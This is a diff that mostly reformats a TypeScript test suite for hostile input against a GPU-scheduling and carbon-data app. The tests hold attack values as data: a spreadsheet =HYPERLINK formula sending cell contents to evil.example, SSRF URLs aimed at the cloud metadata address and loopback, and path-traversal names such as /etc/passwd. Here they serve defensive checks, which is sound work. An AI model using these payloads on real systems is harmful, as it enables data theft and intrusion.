@@ -39,7 +39,16 @@ const job = (overrides: Record<string, unknown> = {}) => ({
   allowedRegions: [],
   ...overrides,
 });
-const feed = (baseUrl: string) => ({ id: null, zoneId: "GB", provider: "ELECTRICITY_MAPS" as const, baseUrl, apiToken: "", externalZone: "", pollIntervalS: 300, enabled: true });
+const feed = (baseUrl: string) => ({
+  id: null,
+  zoneId: "GB",
+  provider: "ELECTRICITY_MAPS" as const,
+  baseUrl,
+  apiToken: "",
+  externalZone: "",
+  pollIntervalS: 300,
+  enabled: true,
+});
 
 describe("hostile input and leaky output", () => {
   let test: TestDatabase;
@@ -49,7 +58,11 @@ describe("hostile input and leaky output", () => {
   let aurora: Caller;
   beforeAll(async () => {
     test = await createSeededDatabase();
-    [admin, operator, aurora] = await Promise.all([callerAs(test.db, demoUserIds.admin), callerAs(test.db, demoUserIds.operator), callerAs(test.db, demoUserIds.aurora)]);
+    [admin, operator, aurora] = await Promise.all([
+      callerAs(test.db, demoUserIds.admin),
+      callerAs(test.db, demoUserIds.operator),
+      callerAs(test.db, demoUserIds.aurora),
+    ]);
   });
   afterAll(() => test.drop());
 
@@ -65,15 +78,21 @@ describe("hostile input and leaky output", () => {
 
   it("refuses a lone surrogate in a tenant name and writes nothing", async () => {
     const tenantsBefore = await test.db.tenant.count();
-    const errors = await fieldErrorsOf(() => admin.tenants.create({ slug: "surrogate-co", name: "Broken \uD800 name", maxGpus: 4, maxGpuHoursPerMonth: null, carbonBudgetKgPerMonth: null }));
+    const errors = await fieldErrorsOf(() =>
+      admin.tenants.create({ slug: "surrogate-co", name: "Broken \uD800 name", maxGpus: 4, maxGpuHoursPerMonth: null, carbonBudgetKgPerMonth: null }),
+    );
     expect(errors.name).toMatch(/^Name contains a character that cannot be stored/);
     // A well-formed pair (an emoji) is fine: only unpaired halves are refused.
-    await expect(admin.tenants.create({ slug: "emoji-co", name: "Emoji 🌱 Co", maxGpus: 4, maxGpuHoursPerMonth: null, carbonBudgetKgPerMonth: null })).resolves.toMatchObject({ name: "Emoji 🌱 Co" });
+    await expect(
+      admin.tenants.create({ slug: "emoji-co", name: "Emoji 🌱 Co", maxGpus: 4, maxGpuHoursPerMonth: null, carbonBudgetKgPerMonth: null }),
+    ).resolves.toMatchObject({ name: "Emoji 🌱 Co" });
     expect(await test.db.tenant.count()).toBe(tenantsBefore + 1);
   });
 
   it("refuses NUL inside a gzip upload once unpacked", async () => {
-    const packed = gzipSync("Datetime (UTC),Zone Id,Carbon Intensity gCO₂eq/kWh (LCA),Data Source\n2023-01-01 00:00:00,GB,100,evil\u0000source\n").toString("base64");
+    const packed = gzipSync("Datetime (UTC),Zone Id,Carbon Intensity gCO₂eq/kWh (LCA),Data Source\n2023-01-01 00:00:00,GB,100,evil\u0000source\n").toString(
+      "base64",
+    );
     const errors = await fieldErrorsOf(() => admin.carbonAdmin.importCsv({ zoneId: "GB", fileName: "gb.csv.gz", encoding: "gzip-base64", content: packed }));
     expect(errors.content).toBe("gb.csv.gz (unpacked) contains a character that cannot be stored (a NUL or an unpaired surrogate).");
   });
@@ -108,7 +127,8 @@ describe("hostile input and leaky output", () => {
       expect(message).toMatch(/^Something went wrong on our side \(request [0-9a-f-]{36}\)\.$/);
       expect(message).toContain(data.requestId);
       expect(data.stack ?? null).toBeNull();
-      for (const leak of ["name_gone", "select", "prisma", "column", "does not exist", process.cwd()]) expect(text.toLowerCase()).not.toContain(leak.toLowerCase());
+      for (const leak of ["name_gone", "select", "prisma", "column", "does not exist", process.cwd()])
+        expect(text.toLowerCase()).not.toContain(leak.toLowerCase());
       // The server log has the details under the same id.
       const entry = logged.find((line) => line.includes(data.requestId));
       expect(entry).toBeDefined();
@@ -121,7 +141,9 @@ describe("hostile input and leaky output", () => {
   });
 
   it("keeps known errors' messages (a duplicate slug is a field error, not a 500)", async () => {
-    const errors = await fieldErrorsOf(() => admin.tenants.create({ slug: "aurora-labs", name: "Copy", maxGpus: 1, maxGpuHoursPerMonth: null, carbonBudgetKgPerMonth: null }));
+    const errors = await fieldErrorsOf(() =>
+      admin.tenants.create({ slug: "aurora-labs", name: "Copy", maxGpus: 1, maxGpuHoursPerMonth: null, carbonBudgetKgPerMonth: null }),
+    );
     expect(Object.keys(errors)).toEqual(["slug"]);
   });
 
@@ -129,7 +151,10 @@ describe("hostile input and leaky output", () => {
     await test.db.job.update({ where: { id: "job-seed-000" }, data: { name: '=HYPERLINK("http://evil.example/?x="&A1,"open")', energyKwh: -1.5 } });
     await test.db.job.update({ where: { id: "job-seed-001" }, data: { name: "@SUM(1+1)" } });
     const user = (await findSessionUser(test.db, demoUserIds.operator))!;
-    const rows = parse(await exportJobsCsv(test.db, user, { sort: { field: "submittedAt", direction: "desc" } }), { columns: true }) as Record<string, string>[];
+    const rows = parse(await exportJobsCsv(test.db, user, { sort: { field: "submittedAt", direction: "desc" } }), { columns: true }) as Record<
+      string,
+      string
+    >[];
     const hyperlink = rows.find((r) => r.id === "job-seed-000")!;
     expect(hyperlink.name).toBe(`'=HYPERLINK("http://evil.example/?x="&A1,"open")`);
     expect(hyperlink.energy_kwh).toBe("-1.5");
@@ -139,7 +164,14 @@ describe("hostile input and leaky output", () => {
 
   it("refuses feed URLs reaching metadata, loopback or a name resolving to loopback unless private URLs are allowed", async () => {
     const feedsBefore = await test.db.carbonFeed.count();
-    for (const url of ["http://169.254.169.254/latest/meta-data/", "http://127.0.0.1:1/", "http://localhost:1/", "http://[::1]:1/", "http://10.0.0.5/", "http://0.0.0.0/"]) {
+    for (const url of [
+      "http://169.254.169.254/latest/meta-data/",
+      "http://127.0.0.1:1/",
+      "http://localhost:1/",
+      "http://[::1]:1/",
+      "http://10.0.0.5/",
+      "http://0.0.0.0/",
+    ]) {
       const errors = await fieldErrorsOf(() => admin.carbonAdmin.saveFeed(feed(url)));
       expect(Object.keys(errors), url).toEqual(["baseUrl"]);
       expect(errors.baseUrl, url).toMatch(/may not point inside the network: .*(loopback|link-local|private|unspecified)/);
@@ -162,7 +194,10 @@ describe("hostile input and leaky output", () => {
     try {
       const baseUrl = `http://localhost:${(server.address() as AddressInfo).port}`;
       const deps: FetchDeps = { fetch: globalThis.fetch, sleep: async () => {}, rng: createRng(1), now: () => SEED_NOW.getTime() };
-      await expect(pollElectricityMapsLatest(test.db, { baseUrl, authToken: "t", retry: { maxAttempts: 1 } }, "GB", deps)).rejects.toMatchObject({ code: "FORBIDDEN_ADDRESS", message: expect.stringContaining("resolves to") });
+      await expect(pollElectricityMapsLatest(test.db, { baseUrl, authToken: "t", retry: { maxAttempts: 1 } }, "GB", deps)).rejects.toMatchObject({
+        code: "FORBIDDEN_ADDRESS",
+        message: expect.stringContaining("resolves to"),
+      });
       expect(requests).toBe(0);
     } finally {
       server.closeAllConnections();
@@ -175,12 +210,19 @@ describe("hostile input and leaky output", () => {
       await expect(caller.systemSettings.get()).rejects.toMatchObject({ code: "FORBIDDEN" });
       await expect(caller.systemSettings.update({ allowPrivateFeedUrls: true, decisionRetentionDays: 30 })).rejects.toMatchObject({ code: "FORBIDDEN" });
     }
-    expect((await fieldErrorsOf(() => admin.systemSettings.update({ allowPrivateFeedUrls: false, decisionRetentionDays: 0 }))).decisionRetentionDays).toBe("1 to 3,650 days");
+    expect((await fieldErrorsOf(() => admin.systemSettings.update({ allowPrivateFeedUrls: false, decisionRetentionDays: 0 }))).decisionRetentionDays).toBe(
+      "1 to 3,650 days",
+    );
     expect(await admin.systemSettings.get()).toEqual({ allowPrivateFeedUrls: false, decisionRetentionDays: 30 });
   });
 
   it("refuses scenario file names that are inherited properties, step out or are absolute", async () => {
-    const scenario = (path: string) => ({ kind: "upload" as const, fileName: "s.json", json: JSON.stringify({ name: "x" }), files: [{ path, content: "a,b\n1,2\n" }] });
+    const scenario = (path: string) => ({
+      kind: "upload" as const,
+      fileName: "s.json",
+      json: JSON.stringify({ name: "x" }),
+      files: [{ path, content: "a,b\n1,2\n" }],
+    });
     for (const path of ["__proto__", "constructor", "../x.csv", "a/../../x.csv", "/etc/passwd", "C:\\x.csv"]) {
       const errors = await fieldErrorsOf(() => operator.experiments.inspect(scenario(path)));
       expect(Object.keys(errors), path).toContain("files.0.path");
@@ -212,7 +254,14 @@ describe("hostile input and leaky output", () => {
     expect((caught as TRPCError).message).toMatch(/clusters\[0\]\.nodes/);
     expect((caught as TRPCError).message).not.toContain(process.cwd());
     // JSON escapes that jsonb cannot store are refused by their path inside the document.
-    const nul = await fieldErrorsOf(() => operator.experiments.start({ name: "nul", scenario: { kind: "upload", fileName: "n.json", json: '{"name":"a\\u0000b"}', files: [] }, policies: ["p"], baseline: "p" }));
+    const nul = await fieldErrorsOf(() =>
+      operator.experiments.start({
+        name: "nul",
+        scenario: { kind: "upload", fileName: "n.json", json: '{"name":"a\\u0000b"}', files: [] },
+        policies: ["p"],
+        baseline: "p",
+      }),
+    );
     expect(nul["scenario.json"]).toMatch(/at name contains a character that cannot be stored/);
     expect(await test.db.experiment.count({ where: { name: "nul" } })).toBe(0);
   });
